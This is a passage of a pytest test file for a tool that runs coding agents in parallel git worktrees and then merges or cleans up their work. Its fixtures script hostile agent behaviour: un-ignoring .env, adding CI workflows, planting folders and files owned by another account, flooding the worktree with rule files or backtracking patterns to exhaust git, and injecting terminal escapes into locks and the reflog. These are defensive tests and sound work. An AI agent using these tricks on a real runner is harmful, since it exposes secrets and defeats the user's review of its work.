    html = (repo / ".git" / "architect-parallel" / "report.html").read_text()
    assert "Its diff cannot be read: architect/parallel-1 names 1" in html
    assert "5000 files changed" not in summary.read_text()  # (no diffstat of it)
    code, _out, err = cli("merge", "best")
    assert code == 2 and re.search(r"names 1\d MB of paths more than its base does \(over 4 MB\)",
                                   err) and "nothing else of it was looked at" in err, err


# -- review round 96 ---------------------------------------------------------------------------

def test_merge_all_names_every_branchs_refusals_before_force(cli, repo, tmp_path):
    """Round 96 (B): `merge all` stopped at the first branch asking for --force: worker 1
    changed what CI runs (easy to accept), worker 2's .gitignore stopped ignoring `.env`;
    the error named worker 1 only, and the `merge all --force` it asked for merged worker 2
    unseen. Every branch is checked first, and one error names each one's refusals."""
    (repo / ".gitignore").write_text(".env\n")
    git("add", ".gitignore", cwd=repo)
    git("commit", "-qm", "ignore", cwd=repo)
    (repo / ".env").write_text("SECRET=1\n")
    agent = script(tmp_path, "agent.sh", """if [ "$1" = 1 ]; then
  printf 'test:\\n  script: make test\\n' > .gitlab-ci.yml
else
  printf '# nothing ignored now\\n' > .gitignore
  echo two > two.txt
fi
""")
    assert cli("run", "t", "--workers", "2", "--agent-cmd", f"{agent} {{worker}}")[0] == 0
    code, _out, err = cli("merge", "all")
    assert code == 2, err
    assert "architect/parallel-1 changes what your CI runs (.gitlab-ci.yml)" in err, err
    assert "architect/parallel-2 has .gitignore files that no longer ignore files of yours " \
           "(.env)" in err, err
    assert not (repo / ".gitlab-ci.yml").exists() and not (repo / "two.txt").exists()


@pytest.mark.skipif(not ROOT or not shutil.which("setpriv"), reason="needs root and setpriv")
@pytest.mark.parametrize("mode,owner,counted", [("000", None, True), ("0311", None, True),
                                                ("000", 4242, False)])
def test_a_folder_its_owner_closed_hides_no_rules_from_the_count(tmp_path, mode, owner, counted):
    """Round 96 (A): as an ordinary user the agent wrote 40 MB of nested .gitattributes
    under d/ and made d/ mode 000 (or 0311): the count left d/ out, then the runner's walk
    before the commit opened it again, and its gits read every rule (1.45 GB, 79 s). The
    count now opens every folder to its owner first, as that walk does, and a folder it
    still cannot list (another account's) makes it say it cannot tell (None). (As root,
    run without the capabilities by which root reads every folder.)"""
    top = tmp_path / "wt"
    (top / "d" / "e").mkdir(parents=True)
    (top / "d" / ".gitattributes").write_bytes(b"x\n" * (100 << 10))
    (top / "d" / "e" / ".gitattributes").write_bytes(b"x\n" * (100 << 10))
    if owner:
        os.chown(top / "d", owner, owner)
    os.chmod(top / "d", int(mode, 8))
    probe = ("import sys; sys.path.insert(0, sys.argv[2]); import architect_parallel as ap\n"
             "print(ap._rules_in_worktree(sys.argv[1]))\n")
    proc = subprocess.run(["setpriv", "--bounding-set=-dac_read_search,-dac_override",
                           sys.executable, "-c", probe, str(top), CHECKOUT],
                          capture_output=True, text=True, timeout=60)
    os.chmod(top / "d", 0o755)
    assert proc.returncode == 0, proc.stderr
    said = proc.stdout.strip()
    assert said == ("409600" if counted else "None"), said


@pytest.mark.parametrize("road", ["config", "failed", "unreadable"])
def test_one_force_is_asked_for_every_reason_at_once(cli, repo, tmp_path, road):
    """Round 97 (B): merge's earlier questions (your git config changed since the run, the
    worker failed a check, the last run's results unreadable) each raised alone, and the
    --force they asked for then merged every refusal of the branch's content unseen (a CI
    workflow, a .gitignore no longer ignoring your .env). One error now names them all;
    with the results unreadable, what the branch brings since it parted from yours is
    looked at; a refused merge accepts no changed config."""
    (repo / ".gitignore").write_text(".env\n")
    git("add", ".gitignore", cwd=repo)
    git("commit", "-qm", "ignore", cwd=repo)
    (repo / ".env").write_text("SECRET=1\n")
    agent = script(tmp_path, "agent.sh", "mkdir -p .github/workflows\n"
                   "printf 'on: push\\n' > .github/workflows/ci.yml\n")
    check = "test -f PASSED" if road == "failed" else "true"
    cli("run", "t", "--workers", "1", "--agent-cmd", f"{agent} {{task}}", "--check", check)
    state = repo / ".git" / "architect-parallel" / "last-run.json"
    if road == "config":
        git("config", "pull.rebase", "true", cwd=repo)
        recorded = json.loads(state.read_text())["git_config"]
    elif road == "unreadable":
        state.write_text("{\n")
    code, _out, err = cli("merge", "1")
    assert code == 2, err
    first = {"config": "the repository's git config (or .git/info/attributes) changed",
             "failed": "worker 1 did not succeed in the last run",
             "unreadable": "the last run's results cannot be read"}[road]
    assert first in err and "architect/parallel-1 changes what your CI runs " \
        "(.github/workflows/ci.yml)" in err, err
    assert not (repo / ".github").exists()
    if road == "config":
        assert json.loads(state.read_text())["git_config"] == recorded  # (nothing accepted)
    code, _out, err = cli("merge", "1", "--force")
    assert code == 0 and "warning: merging although architect/parallel-1 changes what your CI " \
        "runs" in err, err
    assert (repo / ".github" / "workflows" / "ci.yml").exists()


@pytest.mark.skipif(not ROOT, reason="needs root (a folder of another account)")
def test_a_folder_of_another_account_fails_the_worker_before_the_runners_gits(cli, repo,
                                                                               tmp_path):
    """Round 97 (A): the agent opened a folder to all and `attacker` made a folder of its own
    there, empty while the worktree's rules were counted, then moved 40 MB of nested
    .gitignore files into it: the runner's gits read them (1.5 GB). The count is made again
    once the worktree is held still (no other account may add to it), and anything of
    another account there then fails the worker before any git of the runner reads it."""
    agent = script(tmp_path, "agent.sh", "mkdir -p w/theirs && chown 4242:4242 w/theirs\n"
                   "echo work > work.txt\necho '{\"status\": \"success\"}'\n")
    _code, results, err = cli.json("run", "t", "--workers", "1", "--agent-cmd",
                                   f"{agent} {{task}}", "--check", "true")
    (r,) = results
    assert r["status"] == "failed" and "its worktree holds folders or rule files another " \
        "account owns, which it may write whenever it wants: w/theirs/ (a folder of uid 4242" \
        in r["error"], r
    assert r["commit"] is None and r["checks"] == [], r
    assert git("rev-parse", "architect/parallel-1", cwd=repo) == r["base_commit"]
    code, _out, err = cli("cleanup")
    assert code == 2 and "would delete work" in err, err


# -- review round 98 ---------------------------------------------------------------------------

@pytest.mark.parametrize("squash", [False, True])
def test_the_commit_checked_is_the_commit_merged(repo, squash):
    """Round 98 (B, by design): merge checked the branch's commit, then merged the branch by
    its name: a branch moved in between would bring what no check saw. The commit checked
    is what is merged."""
    base, checked = _changes(repo, {"a.txt": "checked\n"})
    git("branch", "-q", "architect/parallel-1", checked, cwd=repo)
    git("checkout", "-q", "architect/parallel-1", cwd=repo)
    (repo / "evil.txt").write_text("unchecked\n")
    git("add", "evil.txt", cwd=repo)
    git("commit", "-qm", "moved", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    assert ap._merge_branch(ap._Repo.find(str(repo)), "architect/parallel-1", squash,
                            checked) == []
    assert (repo / "a.txt").read_text() == "checked\n" and not (repo / "evil.txt").exists()


@pytest.mark.skipif(not ROOT, reason="needs root (a folder of another account)")
def test_a_folder_another_account_adds_after_the_checks_is_moved_out(cli, repo, tmp_path):
    """Round 98 (A): the agent's check opened a folder to all, and `attacker` moved a tree of
    40 MB of rules into it just after the count that follows the checks: the runner's gits
    read them (the worker a success), and every later `diff` and `cleanup` too, `attacker`
    growing them at will. After the checks the worktree is now held still before it is
    counted, and what another account owns there is moved out into the runner's trash."""
    agent = script(tmp_path, "agent.sh", "echo work > work.txt\necho '{\"status\": \"success\"}'\n")
    _code, results, err = cli.json("run", "t", "--workers", "1", "--agent-cmd",
                                   f"{agent} {{task}}", "--check",
                                   "mkdir -p w/theirs && chown 4242:4242 w/theirs && chmod 777 w")
    (r,) = results
    assert r["status"] == "failed" and "its worktree held folders or rule files another account " \
        "owns, which it could write whenever it wanted: w/theirs (uid 4242); moved out of it " \
        "into" in r["error"], r
    wt = repo / ".architect-parallel-1"
    assert not (wt / "w" / "theirs").exists() and not os.stat(wt / "w").st_mode & 0o022
    # Round 99 (A): kept (the run's trash, emptied at its end, took it with it)
    kept = repo / ".git" / "architect-parallel" / "evicted" / ".architect-parallel-1"
    (moved,) = os.listdir(kept)
    assert moved.endswith("-theirs") and os.stat(kept / moved).st_uid == 4242
    assert cli("cleanup", "--force")[0] == 0 and (kept / moved).is_dir()  # (yours to remove)


@pytest.mark.skipif(not ROOT, reason="needs root (a file of another account)")
def test_a_file_another_account_leaves_during_the_checks_fails_the_worker(cli, repo, tmp_path):
    """Round 99 (A): `attacker` wrote `sub/.git` (pointing at a repository of its own) into a
    folder a check had opened to all; the worker passed, the file still attacker's to
    rewrite. Any file of another account in a worktree after its checks fails it."""
    agent = script(tmp_path, "agent.sh", "mkdir sub && echo work > sub/work.txt\n"
                   "echo '{\"status\": \"success\"}'\n")
    _code, results, err = cli.json("run", "t", "--workers", "1", "--agent-cmd",
                                   f"{agent} {{task}}", "--check",
                                   "echo 'gitdir: /nowhere' > sub/.git && chown 4242 sub/.git")
    (r,) = results
    assert r["status"] == "failed" and "its worktree holds files another account owns, which " \
        "it may change whenever it wants: sub/.git (uid 4242)" in r["error"], r


def test_no_later_command_runs_a_git_in_a_worktree_of_too_many_rules(cli, repo, tmp_path):
    """Round 98 (A): a worktree left over the rules bound was read by every later command's
    gits (`diff`, `report`, `cleanup`, `continue`). Each process now counts a worktree once
    before its first git there, and runs none in one over the bound: it says so, and
    `cleanup --force` still removes it."""
    agent = script(tmp_path, "agent.sh", HEAVY.replace("NAME", ".gitignore")
                   + "echo work > work.txt\necho '{\"status\": \"success\"}'\n")
    cli("run", "t", "--workers", "1", "--agent-cmd", f"{agent} {{task}}")
    said = "holds .gitignore and .gitattributes files of over 256 KB in all, or folders this " \
           "tool cannot list: no git of it reads them"
    code, _out, err = cli("diff", "1")
    assert code == 2 and said in err, err
    code, _out, err = cli("continue", "1", "more")
    assert code != 0 and said in err, err
    code, _out, err = cli("cleanup")
    assert code == 2 and "would delete work" in err, err
    assert cli("cleanup", "--force")[0] == 0
    assert not (repo / ".architect-parallel-1").exists()


# -- review round 99 ---------------------------------------------------------------------------

def test_a_follow_up_that_leaves_too_many_rules_points_at_cleanup_not_continue(cli, repo,
                                                                               tmp_path):
    """Round 99 (B): a `continue` whose agent left its worktree over the rules bound said to
    try `continue` again, which every later command then refused. Its footer now says so,
    and points at `cleanup --force --keep-branches` (the checked commit stays on its branch)."""
    agent = script(tmp_path, "agent.sh", 'if [ "$1" = heavy ]; then\n'
                   + HEAVY.replace("NAME", ".gitattributes") + "fi\n"
                   "echo \"$1\" >> work.txt\necho '{\"status\": \"success\"}'\n")
    assert cli("run", "first", "--workers", "1", "--agent-cmd", f"{agent} {{task}}")[0] == 0
    code, _out, err = cli("continue", "1", "heavy")
    assert code == 1, err
    assert "the follow-up did not succeed, and left its worktree with more rules than a git may " \
        "read: no command reads it again; what worker 1 did before is still on " \
        "architect/parallel-1 (the last line says how to remove the worktree)" in err, err
    assert "remove them with: architect-parallel cleanup --force --keep-branches, once you " \
        "have kept what you want of what it would delete unasked in .architect-parallel-1 (" \
        in err, err
    assert "try again with" not in err


# -- review round 100 --------------------------------------------------------------------------

def test_every_hint_after_a_worktree_no_git_reads_names_a_command_that_works(cli, repo,
                                                                              tmp_path):
    """Round 100 (B): with a worktree over the rules bound, the footer said `rerun --failed`
    and `cleanup`, both of which then refused, and every later command said `cleanup
    --force`, which deletes the branches too. Each now names what works there."""
    agent = script(tmp_path, "agent.sh", 'echo "$1" > work.txt\nif [ "$1" = heavy ]; then\n'
                   + HEAVY.replace("NAME", ".gitignore") + "fi\necho '{\"status\": \"success\"}'\n")
    code, _out, err = cli("run", "--task", "heavy", "--task", "light", "--agent-cmd",
                          f"{agent} {{task}}")
    assert "rerun --failed --force (it discards their attempts)" in err, err
    assert "remove them with: architect-parallel cleanup --force --keep-branches" in err, err
    code, _out, err = cli("diff", "1")
    assert code == 2 and "remove it with 'architect-parallel cleanup --force --keep-branches'" \
        in err, err
    assert cli("rerun", "--failed")[0] == 2
    assert cli("cleanup", "--force", "--keep-branches")[0] == 0
    assert git("rev-parse", "--verify", "architect/parallel-2", cwd=repo)


# -- review round 101 --------------------------------------------------------------------------

def _signal_within(monkeypatch, owner, name):
    """A SIGTERM to this process from within ``owner.name`` (once), which then goes on only
    once the runner has acted on it (stopped its agents): the first signal, at that moment."""
    import threading
    stopped, inner, stop_all = threading.Event(), getattr(owner, name), ap.ParallelRunner._stop_all
    sent = []

    def stop_all_then_say(self):
        stop_all(self)
        stopped.set()

    def signalled_first(*args, **kwargs):
        if not sent:
            sent.append(os.kill(os.getpid(), signal.SIGTERM))
            assert stopped.wait(60)
        return inner(*args, **kwargs)

    monkeypatch.setattr(ap.ParallelRunner, "_stop_all", stop_all_then_say)
    monkeypatch.setattr(owner, name, signalled_first)


@needs_bwrap
@pytest.mark.parametrize("commit", [True, False])
def test_one_interrupt_lets_a_sandboxed_workers_objects_come_in(cli, repo, tmp_path, monkeypatch,
                                                                commit):
    """Round 101 (B): one SIGTERM while a sandboxed worker's objects came in (its commit's, or
    with --no-commit its agent's own) stopped the import: the worker failed with `bringing its
    objects in stopped`, its commit was not made, and `rerun --failed --force` was offered,
    which discards it. As the runner's own gits, only a second interrupt stops it now. Here the
    signal comes from within the import, which goes on once the runner has stopped its agents."""
    _signal_within(monkeypatch, ap._Box, "_import_objects")
    agent = script(tmp_path, "agent.sh", "echo work > work.txt\n" + (
        "" if commit else "git add -A && git -c user.name=a -c user.email=a@b commit -qm mine\n")
        + "echo '{\"status\": \"success\"}'\n")
    code, out, err = cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                         "--json", *BOXED, *([] if commit else ["--no-commit"]))
    assert code == 143, err
    (r,) = json.loads(out)
    assert r["commit"] and "stopped" not in (r["error"] or ""), r
    assert git("show", f"{r['commit']}:work.txt", cwd=repo) == "work"
    assert "rerun --failed" not in err, err


def test_the_footer_asks_for_force_where_cleanup_keeps_work_no_commit_holds(cli, repo):
    """Round 101 (B): after a --no-commit run (or a commit an interrupt stopped) the footer said
    `cleanup`, which refused and removed nothing. It says what cleanup then needs; a run whose
    work is all committed still says plain `cleanup`, which removes it."""
    code, _out, err = cli("fake:write=a.txt", "--workers", "2", "--no-commit")
    assert code == 0 and "cleanup --force, once you have kept what you want of what it would " \
        "delete unasked in .architect-parallel-1, .architect-parallel-2 (without --force" in err, err
    assert cli("cleanup")[0] == 2 and (repo / ".architect-parallel-2" / "a.txt").exists()
    assert cli("cleanup", "--force")[0] == 0 and not (repo / ".architect-parallel-2").exists()
    code, _out, err = cli("fake:write=a.txt", "--workers", "2")
    assert "remove them with: architect-parallel cleanup (--keep-branches" in err, err
    assert cli("cleanup")[0] == 0 and not (repo / ".architect-parallel-2").exists()


@needs_bwrap
def test_a_stop_while_worktrees_are_made_leaves_those_workers_not_started(cli, repo, monkeypatch):
    """Round 101 (A): a SIGTERM while a sandboxed worker's worktree was being made: the worktree
    was taken back, but its sandbox was not, and then found no git folder to bring work in
    from: the worker was `failed` (`cannot take its work back: FileNotFoundError`), recorded
    as sandboxed. It is `interrupted`, not started, and nothing of it stays."""
    _signal_within(monkeypatch, ap._Repo, "populate_worktree")
    code, out, err = cli("run", "fake:write=a.txt", "--workers", "1", "--json", *BOXED)
    assert code == 143, err
    (r,) = json.loads(out)
    assert (r["status"], r["error"], r["sandbox"]) == ("interrupted", "not started", None), r
    assert not (repo / ".architect-parallel-1").exists()
    assert not git("branch", "--list", "architect/parallel-1", cwd=repo)


# -- review round 102 --------------------------------------------------------------------------

def test_the_footers_cleanup_hint_names_every_worktree_cleanup_keeps(cli, repo):
    """Round 102 (B): the footer's cleanup hint read only the results it printed: after
    `continue 2` it named worker 2's worktree alone, and `cleanup --force` then deleted worker
    1's uncommitted work too; after `run --only-workers 2` it said plain `cleanup`, which
    refused. It asks cleanup's own question now, of every worktree and branch."""
    assert cli("fake:write=a.txt", "--workers", "2", "--no-commit")[0] == 0
    code, _out, err = cli("continue", "2", "fake:write=b.txt")
    assert code == 0 and "what it would delete unasked in .architect-parallel-1, " \
        ".architect-parallel-2 (" in err, err
    code, _out, err = cli("fake:write=c.txt", "--workers", "2", "--only-workers", "2", "--force")
    assert code == 0 and "what it would delete unasked in .architect-parallel-1 (" in err, err
    assert cli("cleanup")[0] == 2 and (repo / ".architect-parallel-1" / "a.txt").exists()


def test_different_tasks_left_uncommitted_are_merged_once_committed(cli, repo):
    """Round 102 (B): different tasks with --no-commit: the footer said `merge all`, which
    refused each worker's uncommitted work. It says to commit each first, which then merges."""
    code, _out, err = cli("run", "--task", "fake:write=a.txt", "--task", "fake:write=b.txt",
                          "--workers", "2", "--no-commit")
    assert code == 0 and "merge all' once the work of worker 1, worker 2 is committed in its " \
        "worktree" in err, err
    assert cli("merge", "all")[0] == 2
    for n in (1, 2):
        git("add", "-A", cwd=repo / f".architect-parallel-{n}")
        git("commit", "-qm", "mine", cwd=repo / f".architect-parallel-{n}")
    assert cli("merge", "all")[0] == 0
    assert (repo / "a.txt").exists() and (repo / "b.txt").exists()


# -- review round 103 --------------------------------------------------------------------------

@pytest.mark.parametrize("how", ["run", "continue"])
def test_a_worktree_no_git_reads_does_not_hide_the_others_from_the_cleanup_hint(cli, repo,
                                                                               tmp_path, how):
    """Round 103 (B): a worker whose agent left over 256 KB of rules turned the footer's cleanup
    hint into `cleanup --force --keep-branches`, naming no other worktree: following it deleted
    an honest worker's uncommitted work (the runner-up's; after a `continue`, the best's). The
    hint names every worktree --force empties."""
    agent = script(tmp_path, "agent.sh", 'if [ "$1" = heavy ]; then\n'
                   + HEAVY.replace("NAME", ".gitignore") + "fi\n"
                   "echo \"$1\" >> work.txt\necho '{\"status\": \"success\"}'\n")
    if how == "run":
        code, _out, err = cli("run", "--task", "light", "--task", "heavy", "--workers", "2",
                              "--agent-cmd", f"{agent} {{task}}", "--no-commit")
    else:
        assert cli("run", "light", "--workers", "2", "--agent-cmd", f"{agent} {{task}}",
                   "--no-commit")[0] == 0
        code, _out, err = cli("continue", "2", "heavy")
    assert "remove them with: architect-parallel cleanup --force --keep-branches, once you have " \
        "kept what you want of what it would delete unasked in .architect-parallel-1, " \
        ".architect-parallel-2 (" in err, err
    assert "no git reads .architect-parallel-2: --keep-branches" in err, err
    assert cli("cleanup", "--keep-branches")[0] == 2
    assert (repo / ".architect-parallel-1" / "work.txt").exists()


def test_no_git_of_the_run_reads_a_worktree_it_found_heavy_once_its_workers_ended(cli, repo,
                                                                                 tmp_path,
                                                                                 monkeypatch):
    """Round 103 (A): the runner counted a worktree's rules for its own gits, and so marked it
    counted whatever the count said: the footer of the same run, asking cleanup's question,
    then ran three gits there that read 30 links of a 1 MB rules file (1.1 GB each, 34 s).
    What a count finds is kept, and once the workers ended no git of the process runs there."""
    agent = script(tmp_path, "agent.sh", 'if [ "$1" = heavy ]; then\n'
                   + HEAVY.replace("NAME", ".gitignore") + "fi\n"
                   "echo \"$1\" >> work.txt\necho '{\"status\": \"success\"}'\n")
    popen, asking, where = ap._git_popen, [], []

    def recording(args, cwd, *rest, **kwargs):
        if asking:
            where.append(os.path.realpath(cwd))
        return popen(args, cwd, *rest, **kwargs)

    kept = ap._kept_by_cleanup

    def asked(top):
        asking.append(True)
        try:
            return kept(top)
        finally:
            asking.clear()

    monkeypatch.setattr(ap, "_git_popen", recording)
    monkeypatch.setattr(ap, "_kept_by_cleanup", asked)
    code, _out, err = cli("run", "--task", "light", "--task", "heavy", "--workers", "2",
                          "--agent-cmd", f"{agent} {{task}}")
    heavy = os.path.realpath(repo / ".architect-parallel-2")
    assert where and heavy not in where, where
    assert "no git reads .architect-parallel-2" in err, err


# -- review round 104 --------------------------------------------------------------------------

def test_list_and_cleanup_read_a_worktree_by_its_place_as_well_as_its_branch(cli, repo):
    """Round 104 (B): a worktree whose HEAD was detached (with a commit of yours) had its branch
    listed as one whose worktree is gone; one moved by `git worktree move` was refused by cleanup
    for commits "that architect/parallel-7 does not hold", a branch that never was."""
    assert cli("fake:write=a.txt", "--workers", "2")[0] == 0
    wt = repo / ".architect-parallel-1"
    git("checkout", "-q", "--detach", cwd=wt)
    (wt / "note.txt").write_text("mine\n")
    git("add", "note.txt", cwd=wt)
    git("commit", "-qm", "mine", cwd=wt)
    code, out, err = cli("list")
    assert code == 0 and "no worktree" not in out + err, out + err
    git("worktree", "move", ".architect-parallel-2", ".architect-parallel-7", cwd=repo)
    code, _out, err = cli("cleanup", "--dry-run")
    assert code == 0 and "architect/parallel-7" not in err, err
    assert ".architect-parallel-1 (has commits on a detached HEAD" in err, err


@pytest.mark.parametrize("command", [["cleanup", "--dry-run"], ["report", "--html", "r.html"],
                                     ["diff", "1"]])
def test_an_interrupted_command_leaves_no_git_behind(cli, repo, command):
    """Round 104 (A): a rule of many `*`s against a long name keeps every git in a worktree busy
    (git matches it by backtracking); a `cleanup --dry-run`, `diff` or `report` stopped by
    SIGTERM left its git running, in a session of its own, with its time limit gone with the
    tool (one ran 12 minutes), and `report` waited for it. Its gits that write nothing are
    stopped with it."""
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    (repo / ".architect-parallel-1" / ".gitignore").write_text("*a*a*a*a*a*a*a*a*a*a*0z\n")
    (repo / ".architect-parallel-1" / ("a" * 200 + "1")).write_text("x\n")
    _no_git_left_by_sigterm(repo, command)


def test_the_footer_asks_what_cleanup_keeps_for_a_bounded_time(cli, repo, monkeypatch):
    """Round 104 (A): the footer's question (what cleanup keeps) ran each git in a worktree for
    up to 600 s, and a rule of many `*`s against a long name keeps every git there busy that
    long: 10 minutes of footer a hostile worktree, whatever --check-timeout said. It has 30 s
    in all (3 here), and past them says to ask `cleanup --dry-run`."""
    monkeypatch.setattr(ap, "_FOOTER_SECONDS", 3.0)
    monkeypatch.setattr(ap, "_WORKTREE_GIT_TIMEOUT", 20)
    assert cli("fake:write=a.txt", "--workers", "2")[0] == 0
    (repo / ".architect-parallel-1" / ".gitignore").write_text("*a*a*a*a*a*a*a*a*a*a*0z\n")
    (repo / ".architect-parallel-1" / ("a" * 200 + "1")).write_text("x\n")
    code, _out, err = cli("fake:write=b.txt", "--workers", "2", "--only-workers", "2", "--force")
    assert code == 0 and "remove them with: architect-parallel cleanup, after 'architect-" \
        "parallel cleanup --dry-run' has named what it would keep without --force (the run " \
        "could not ask it within 3 s)" in err, err


# -- review round 105 --------------------------------------------------------------------------


def test_diff_stopped_by_sigterm_leaves_no_git_of_its_own_process_group(cli, repo):
    """Round 105 (A): `diff N`'s own display git (`git diff --no-index` of a new file of a
    --no-commit worker) ran in the tool's process group, out of round 104's registry: a rule
    of many `*`s in the worktree's .gitattributes kept it busy, and a SIGTERM sent to the tool
    alone left it running with no time limit. Every git that writes nothing is killed at an
    interrupt, whatever its process group."""
    assert cli("fake:write=a.txt", "--workers", "1", "--no-commit")[0] == 0
    (repo / ".architect-parallel-1" / ".gitattributes").write_text("*a*a*a*a*a*a*a*0z diff\n")
    (repo / ".architect-parallel-1" / ("a" * 200 + "1")).write_text("x\ny\n")
    _no_git_left_by_sigterm(repo, ["diff", "1"], b"--no-index")

def test_list_names_a_branch_whose_worktree_was_moved_onto_another_folder(cli, repo):
    """Round 105 (B): a worktree moved into another worker's folder (`git worktree move`) took
    that worker's branch's place in `list`: architect/parallel-3, which cleanup deletes, was
    listed nowhere, and the moved worktree was listed as worker 3 with no status."""
    assert cli("fake:write=a.txt", "--workers", "3")[0] == 0
    git("worktree", "remove", ".architect-parallel-3", cwd=repo)
    git("worktree", "move", ".architect-parallel-1", ".architect-parallel-3", cwd=repo)
    code, items, err = cli.json("list")
    assert code == 0, err
    by_branch = {item["branch"]: item for item in items}
    assert by_branch["architect/parallel-3"]["path"] is None, items
    assert by_branch["architect/parallel-1"]["worker_id"] == 1, items
    assert by_branch["architect/parallel-1"]["status"] == "success", items
    code, _out, err = cli("cleanup", "--dry-run")
    assert code == 0 and "would delete branch architect/parallel-3" in err, err


def test_cleanup_keeps_no_refusal_for_commits_a_branch_or_tag_of_yours_holds(cli, repo):
    """Round 105 (B): a worktree whose branch you renamed (`git branch -m`), or whose detached
    HEAD you tagged, made cleanup refuse for work "--force deletes", which --force kept."""
    assert cli("fake:write=a.txt", "--workers", "2")[0] == 0
    git("branch", "-m", "architect/parallel-2", "keep-2", cwd=repo)
    wt = repo / ".architect-parallel-1"
    git("checkout", "-q", "--detach", cwd=wt)
    (wt / "note.txt").write_text("mine\n")
    git("add", "note.txt", cwd=wt)
    git("commit", "-qm", "mine", cwd=wt)
    git("tag", "keep-mine", cwd=wt)
    code, _out, err = cli("cleanup", "--dry-run")
    assert code == 0 and "--force deletes" not in err, err
    code, _out, err = cli("cleanup")
    assert code == 0 and not (repo / ".architect-parallel-1").exists(), err
    assert git("log", "-1", "--format=%s", "keep-mine", cwd=repo).strip() == "mine"
    assert git("rev-parse", "--verify", "keep-2", cwd=repo).strip()


def test_worktrees_of_yours_are_left_alone(cli, repo):
    """Round 105 (B): a worktree of yours named like a worker's (`.architect-parallel-2-fixes`,
    on `architect/parallel-2-fixes`, a branch the README calls yours) was listed as worker `?`
    and removed by cleanup; a worktree you locked (`git worktree lock`) was removed by cleanup
    without a word, and a run reused its folder."""
    assert cli("fake:write=a.txt", "--workers", "2")[0] == 0
    git("worktree", "add", "-q", "-b", "architect/parallel-2-fixes", ".architect-parallel-2-fixes",
        "architect/parallel-2", cwd=repo)
    git("worktree", "lock", "--reason", "keep me", ".architect-parallel-1", cwd=repo)
    code, items, err = cli.json("list")
    assert code == 0 and [i["worker_id"] for i in items] == [1, 2], items
    code, _out, err = cli("fake:write=b.txt", "--workers", "2", "--force")
    assert code == 2 and "the worktree " in err and "is locked (keep me)" in err, err
    assert (repo / ".architect-parallel-1" / "a.txt").exists()
    code, _out, err = cli("cleanup", "--force")
    assert code == 0 and "is locked (keep me); left in place with its branch" in err, err
    assert (repo / ".architect-parallel-1" / "a.txt").exists()
    assert (repo / ".architect-parallel-2-fixes" / "a.txt").exists()
    assert not (repo / ".architect-parallel-2").exists()
    branches = git("branch", "--format=%(refname:short)", cwd=repo).split()
    assert "architect/parallel-1" in branches and "architect/parallel-2-fixes" in branches
    assert "architect/parallel-2" not in branches


def test_a_lock_found_when_a_worker_ends_is_kept_and_said(cli, repo, tmp_path):
    """Round 106 (B): a `git worktree lock` you make while the worker runs was removed as the
    agent's, and cleanup then removed the worktree you locked. A lock found when the worker
    ends is kept (it may be yours, or the agent's: the warning says how to unlock it), its
    reason written again with no control character (git prints it)."""
    agent = script(tmp_path, "lock.sh", 'echo own > own.txt\n'
                   'printf "keep\\033[31m it\\n" > "$(git rev-parse --git-dir)/locked"\n')
    code, _out, err = cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1")
    assert code == 0 and "worker 1: its worktree is locked (keep?[31m it): cleanup and " in err, err
    assert "\033" not in git("worktree", "list", "--porcelain", cwd=repo)
    code, _out, err = cli("cleanup", "--force")
    assert code == 0 and "is locked (keep?[31m it); left in place" in err, err
    assert (repo / ".architect-parallel-1" / "own.txt").exists()
    git("worktree", "unlock", ".architect-parallel-1", cwd=repo)
    assert cli("cleanup")[0] == 0 and not (repo / ".architect-parallel-1").exists()


def test_a_branch_of_yours_named_like_a_workers_holds_work(cli, repo):
    """Round 106 (B): commits kept on `architect/parallel-1-fixes` (a branch of yours, as the
    README says) still made cleanup refuse, as work it would lose."""
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    wt = repo / ".architect-parallel-1"
    (wt / "notes.txt").write_text("mine\n")
    git("add", "notes.txt", cwd=wt)
    git("commit", "-qm", "my work", cwd=wt)
    assert cli("cleanup", "--dry-run")[0] == 0
    assert "--force deletes" in cli("cleanup", "--dry-run")[2]
    git("branch", "architect/parallel-1-fixes", "architect/parallel-1", cwd=repo)
    code, _out, err = cli("cleanup")
    assert code == 0 and not wt.exists(), err
    assert git("log", "-1", "--format=%s", "architect/parallel-1-fixes", cwd=repo).strip() == \
        "my work"


def test_a_worktrees_own_refs_and_head_log_are_not_the_agents(cli, repo, tmp_path):
    """Round 106 (B): refs an agent made in its worktree's git folder (refs/bisect,
    refs/worktree) and lines it added to its HEAD's log (what `git reflog`, `HEAD@{1}` and
    `git checkout -` read there; a terminal escape git prints raw) stayed after its worker."""
    agent = script(tmp_path, "reflog.sh", 'd=$(git rev-parse --absolute-git-dir); h=$(git rev-parse HEAD)\n'
                   'mkdir -p "$d/refs/bisect" "$d/refs/worktree"\n'
                   'echo $h > "$d/refs/bisect/bad"; echo $h > "$d/refs/worktree/x"\n'
                   'printf "%s %s A <a@b> 1700000000 +0000\\tcommit: \\033[31mRED\\n" '
                   '0000000000000000000000000000000000000000 $h >> "$d/logs/HEAD"\n'
                   'echo own > own.txt\n')
    code, _out, err = cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1")
    assert code == 0 and "refs of its worktree's own" in err, err
    wt = repo / ".architect-parallel-1"
    assert "RED" not in git("reflog", cwd=wt)
    refs = git("for-each-ref", "--format=%(refname)", cwd=wt)
    assert "refs/bisect" not in refs and "refs/worktree" not in refs, refs
    git("commit", "-q", "--allow-empty", "-m", "later", cwd=wt)  # (your git writes it again)
    assert "later" in git("reflog", cwd=wt)


def _slow_branch(repo, branch, names):
    """Commit on ``branch``, by plumbing (no attribute read), a .gitattributes rule of many
    `*`s that git matches by backtracking, and files whose long names make each match slow."""
    def fed(args, text):
        return subprocess.run(["git", *args], cwd=repo, input=text, capture_output=True,
                              text=True, check=True).stdout.strip()

    blobs = {name: fed(["hash-object", "-w", "--stdin"], text)
             for name, text in [(".gitattributes", "*a*a*a*a*a*a*a*0z text\n"),
                                *[("a" * 200 + str(n), "x\n") for n in range(names)]]}
    base = git("ls-tree", f"refs/heads/{branch}", cwd=repo)
    tree = fed(["mktree"], base + "\n" + "".join(
        f"100644 blob {sha}\t{name}\n" for name, sha in blobs.items()))
    tip = git("rev-parse", f"refs/heads/{branch}", cwd=repo).strip()
    commit = git("commit-tree", tree, "-p", tip, "-m", "slow", cwd=repo).strip()
    git("update-ref", f"refs/heads/{branch}", commit, cwd=repo)


